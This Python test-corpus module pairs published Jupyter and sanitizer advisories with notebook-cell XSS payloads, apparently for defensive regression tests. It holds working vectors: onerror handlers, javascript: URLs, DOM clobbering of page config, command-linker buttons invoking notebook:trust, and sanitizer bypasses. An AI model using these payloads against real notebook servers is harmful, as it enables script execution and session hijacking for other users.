"""Published advisories of Jupyter's, and of what its pages are built of."""

# Payloads are data: their lines are as long as they are, in pieces that belong together.
# ruff: noqa: E501

from __future__ import annotations

from typing import Any

from tests.attacks.xss.corpus.shapes import HTML, output
from tests.attacks.xss.corpus.shapes import cell as _cell
from tests.attacks.xss.payloads import Payload, numbered

# Published advisories of Jupyter's, and of what its pages are built of.
ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
    (
        "GHSA-9q39-rmj3-p4r2: clobbers the page's settings",
        {
            "cell": _cell(
                outputs=[
                    output(
                        {
                            "text/html": '<script id="jupyter-config-data" type="application/json">{"fullMathjax'
                            'Url":"%URL%.js","baseUrl":"%URL%/"}</script><a id="jupyter-config-data" href="#">'
                            '</a><img name="documentElement" src="x">'
                        }
                    )
                ]
            )
        },
    ),
    (
        "GHSA-9q39-rmj3-p4r2: clobbers from Markdown",
        {
            "cell": {
                "cell_type": "markdown",
                "metadata": {},
                "source": '<form id="jupyter-config-data"><input name="textContent" value=\'{"baseUrl":'
                '"%URL%/"}\'></form>',
            }
        },
    ),
    (
        "GHSA-mqcg-5x36-vfcg: command linker button",
        {
            "cell": _cell(
                metadata={},
                outputs=[
                    output(
                        {
                            "text/html": '<button data-commandlinker-command="notebook:trust" '
                            'data-commandlinker-args="{}">Show</button><button data-commandlinker-command='
                            '"apputils:reset" data-commandlinker-args=\'{"html":"<img src=x onerror=%JS%>"}\'>'
                            "More</button>"
                        }
                    ),
                    output(HTML),
                ],
            )
        },
    ),
    (
        "GHSA-rch3-82jr-f9w9: command linker runs code",
        {
            "cell": _cell(
                metadata={},
                outputs=[
                    output(
                        {
                            "text/html": '<a href="#" data-commandlinker-command="notebook:replace-'
                            'selection" data-commandlinker-args=\'{"text":"%ID%"}\'>Show more</a>'
                            '<a href="#" data-commandlinker-command="help:open" data-commandlinker-args='
                            '\'{"url":"javascript:parent.%JS%","text":"x","newBrowserTab":false}\'>y</a>'
                            '<a href="#" data-commandlinker-command="help:open" data-commandlinker-args='
                            '\'{"url":"%URL%","text":"x","newBrowserTab":false}\'>z</a>'
                        }
                    )
                ],
            )
        },
    ),
    (
        "CVE-2026-40171: command linker in a Markdown cell",
        {
            "cell": {
                "cell_type": "markdown",
                "metadata": {},
                "source": '<a href="#" data-commandlinker-command="help:open" data-commandlinker-args='
                '\'{"url":"%URL%","text":"x","newBrowserTab":false}\'>Show more</a>',
            }
        },
    ),
    (
        "CVE-2021-32797: form action by a Caja bypass",
        {
            "cell": _cell(
                metadata={},
                outputs=[
                    output(
                        {
                            "text/html": "<select><iframe></select><img src=x: onerror=%JS%><form "
                            'action="javascript:%JS%"><button formaction="javascript:%JS%">x</button>'
                        }
                    )
                ],
            )
        },
    ),
    (
        "CVE-2021-32798: select and iframe",
        {
            "cell": _cell(
                metadata={},
                outputs=[
                    output(
                        {
                            "text/html": "<select><iframe></select><img src=x: onerror=%JS%>"
                        }
                    )
                ],
            )
        },
    ),
    (
        "CVE-2022-29238 kind: hidden file is asked for",
        {
            "cell": _cell(
                outputs=[
                    output(
                        {
                            "text/html": "<img src=x onerror=\"fetch('/user/room-abcdefghij/api/contents/"
                            "?hidden=1').then(()=>%JS%)\">"
                        }
                    )
                ]
            )
        },
    ),
    (
        "CVE-2018-8768: javascript of an untrusted notebook",
        {
            "cell": _cell(
                metadata={},
                outputs=[
                    output(
                        {
                            "text/html": '<svg><svg/onload="%JS%"><math><maction actiontype='
                            '"statusline#http://x" xlink:href="javascript:%JS%">CLICK</maction></math>'
                        }
                    )
                ],
            )
        },
    ),
    (
        "CVE-2018-19351: an untrusted SVG in HTML",
        {
            "cell": _cell(
                metadata={},
                outputs=[
                    output(
                        {
                            "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><script>%JS%'
                            "</script></svg>"
                        }
                    )
                ],
            )
        },
    ),
    (
        "CVE-2018-19352: directory name",
        {
            "cell": _cell(
                metadata={},
                outputs=[
                    output(
                        {
                            "text/html": "<a href=\"/user/room-abcdefghij/tree/'-%JS%-'\">folder</a>"
                        }
                    )
                ],
            )
        },
    ),
    (
        "CVE-2021-39160 kind: template in a kernel's name",
        {
            "cell": _cell(),
            "notebook": {
                "kernelspec": {
                    "name": "x'-%JS%-'",
                    "display_name": "{{%JS%}}<b onclick=%JS%>",
                }
            },
        },
    ),
    (
        "CVE-2024-22421 kind: link to another server",
        {
            "cell": {
                "cell_type": "markdown",
                "metadata": {},
                "source": '<img src="//%URL%"> [a](/user/room-abcdefghij/hub/user-redirect/javascript:%JS%)',
            }
        },
    ),
    (
        "CVE-2026-44727 and nbconvert: embedded HTML",
        {
            "cell": {
                "cell_type": "raw",
                "source": "<script>%JS%</script>",
                "metadata": {"raw_mimetype": "text/html"},
            }
        },
    ),
    (
        "GHSA-whvh kind: image viewer",
        {
            "cell": {
                "cell_type": "markdown",
                "metadata": {},
                "source": "![x](attachment:x.svg)",
                "attachments": {
                    "x.svg": {
                        "image/svg+xml": "%B64{<svg xmlns='http://www.w3.org/"
                        "2000/svg'><script>top.%JS%</script></svg>}%"
                    }
                },
            }
        },
    ),
    (
        "jupyterlab#12152: trusted by a peer",
        {"cell": _cell(outputs=[output({"text/html": '<img src=x onerror="%JS%">'})])},
    ),
    (
        "CVE-2025-30370 kind: a path as a command",
        {
            "cell": _cell(
                outputs=[output({"text/html": "<a href='#' onclick=%JS%>$(x)</a>"})]
            )
        },
    ),
    (
        "CVE-2020-26250 kind: a user's name in the page",
        {
            "cell": {
                "cell_type": "markdown",
                "metadata": {"author": "<img src=x onerror=%JS%>"},
                "source": "<b title='{{user}}' onmouseover=%JS%>{{user}}</b>",
            }
        },
    ),
    (
        "dompurify CVE-2024-45801 kind: nested depth",
        {
            "cell": _cell(
                metadata={},
                outputs=[
                    output(
                        {
                            "text/html": "<div>"
                            * 250
                            + "<svg><style><a id='</style><img src=x "
                            "onerror=%JS%>'>" + "</div>" * 250
                        }
                    )
                ],
            )
        },
    ),
    (
        "dompurify CVE-2025-26791 kind: template literals",
        {
            "cell": _cell(
                metadata={},
                outputs=[
                    output(
                        {
                            "text/html": "<a>${</a><a>alert<!-- x -->}</a><math><annotation-xml "
                            "encoding='text/html'><style><img src=x onerror=%JS%>"
                        }
                    )
                ],
            )
        },
    ),
    (
        "sanitize-html CVE-2021-26539 kind: iframe host",
        {
            "cell": _cell(
                metadata={},
                outputs=[
                    output(
                        {
                            "text/html": '<iframe src="//127.0.0.1\\%URL%"></iframe><iframe src='
                            '"https://www.youtube.com@%URL%"></iframe>'
                        }
                    )
                ],
            )
        },
    ),
    (
        "mathjax CVE-2018-1999024: macro in unicode",
        {
            "cell": {
                "cell_type": "markdown",
                "metadata": {},
                "source": r"$$\unicode{<img src=1 onerror=%JS%>}$$",
            }
        },
    ),
    (
        "mermaid CVE-2021-43861 kind: label",
        {
            "cell": {
                "cell_type": "markdown",
                "metadata": {},
                "source": "```mermaid\nsequenceDiagram\n A->>B: <img src=x onerror=%JS%>\n links A: "
                '{"x": "javascript:%JS%"}\n```',
            }
        },
    ),
    (
        "marked CVE-2017-1000427: data link",
        {
            "cell": {
                "cell_type": "markdown",
                "metadata": {},
                "source": "[a link](data:text/html;base64,%B64{<script>%JS%</script>}%)",
            }
        },
    ),
    (
        "jquery CVE-2020-11022: htmlPrefilter",
        {
            "cell": _cell(
                metadata={},
                outputs=[
                    output(
                        {
                            "text/html": "<style><style/><img src=x onerror=%JS%></style><option><style></option>"
                            "</select><img src=x onerror=%JS%></style>"
                        }
                    )
                ],
            )
        },
    ),
)


def payloads() -> list[Payload]:
    """Return them as written into the document."""
    return numbered("advisory", "document", "cell", ADVISORIES)
